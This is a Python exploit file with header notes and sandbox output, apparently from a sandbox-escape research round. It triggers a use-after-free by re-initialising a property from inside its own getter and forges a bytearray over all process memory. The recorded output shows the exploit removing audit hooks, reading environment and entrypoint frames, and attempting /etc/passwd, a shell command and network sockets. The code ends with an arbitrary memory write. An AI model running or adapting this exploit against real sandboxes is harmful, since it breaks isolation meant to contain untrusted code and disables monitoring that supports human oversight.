# family: wall (memory: property.__init__ run again from its own getter frees the getter, a bound list.count)   goal: memory   interpreter: /usr/bin/python3
# (fourteenth wall round, ok_06, as found; its payload past the primitive, which used the
# image's offsets, is replaced by a write into another object). The wall: property is
# initialised once (init_once): C.p.__init__(None) raises RuntimeError, nothing is freed.
# ok_06: THE SAME NEW FAMILY BY A SECOND ROUTE, HOOK IN PLACE: property.__init__ called again
#        from inside its own getter; the getter is a bound list.count whose list is freed
#        mid-count; list_count then reads the freed (refilled) item array
# |
# Family: "self freed under a running C call" (ok_03's), through a property instead of a
#   defaultdict. property_descr_get calls gs->prop_get borrowed. property.__init__ may be
#   called again on an existing property (3.11) and replaces fget, freeing the old one.
# Mechanism: C.p = property(lst.count) with lst = [x, y] held by the bound method only.
#   C().p calls list_count(lst, obj): x.__eq__(obj) runs C.p.__init__(None). That frees
#   lst.count, then lst: the list object goes to the list free list with ob_size still 2,
#   and its 16-byte ob_item array is freed. Four bytearray(15 bytes), each a 16-byte
#   buffer, take the array back: [0, address of a fake bytearray]. list_count goes on
#   at i = 1 and compares ob_item[1] (the fake) with obj: BA.__eq__ receives the fake, a
#   bytearray over all memory. No import, no audit event, no guarded type
#   (list.count is not patched; property is not touched by the wall).
# Goals reached past the hook: the same payload as ok_03: hook removed; the environment
#   beyond the image's (HOSTNAME, HOME, from the stack); the entrypoint's frames and
#   globals. Stopped: /etc/passwd (Landlock), `id` (seccomp), AF_INET (seccomp).
# Plain python3: captured, then `id` ran (uid=10001(sandbox)), /etc/passwd
#   root:x:0:0:..., an AF_INET socket.
# Reliability: 4 of 4 runs in the sandbox.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r14; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 230 ms, cpu 33 ms, memory peak 20828 KiB, fresh container
#   --- stdout (712 bytes)
#   C().p -> 0
#   BA of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   os.environ: {} | environ strings on the stack: [b'PATH=/usr/local/bin:/usr/bin:/bin', b'HOSTNAME=cab64721c8b3', b'LANG=C.UTF-8', b'HOME=/home/sandbox']
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   /etc/passwd -> PermissionError [Errno 13] Permission denied: '/etc/passwd'
#   os.system('id') -> 32512
#   AF_INET socket -> PermissionError [Errno 1] Operation not permitted
#   --- stderr (0 bytes)
#
import sys
import asyncio   # socket for the last line (a preload part)
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __eq__(self, other):
        keep.append(self)              # self: the fake bytearray over all memory
        return False
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
h1 = bytes(FAKEOBJ)                    # the fake bytearray: data at id(h1) + 32
ITEMS = (W(0) + W(id(h1) + 32))[:15]   # bytearray(15 bytes) -> a 16-byte buffer: the freed ob_item
class X:
    def __eq__(self, other):
        C.p.__init__(None)             # property re-initialised: drops lst.count, then lst (to the
                                       # list free list, ob_size left at 2) and frees its ob_item
        k1 = bytearray(ITEMS); k2 = bytearray(ITEMS); k3 = bytearray(ITEMS); k4 = bytearray(ITEMS)
        keep.extend((k1, k2, k3, k4))
        return False
x, y = X(), X()
class C:
    pass
lst = [x, y]
C.p = property(lst.count)            # fget: a bound C method whose self is lst
del lst
try:
    print("C().p ->", C().p)           # property_descr_get calls fget borrowed: list_count(lst, obj)
except Exception as e:
    print("get:", type(e).__name__, e)
mem = [k for k in keep if type(k) is BA][0]
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
target = bytearray(b"AAAAAAAA")        # another object's memory, written through the fake
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
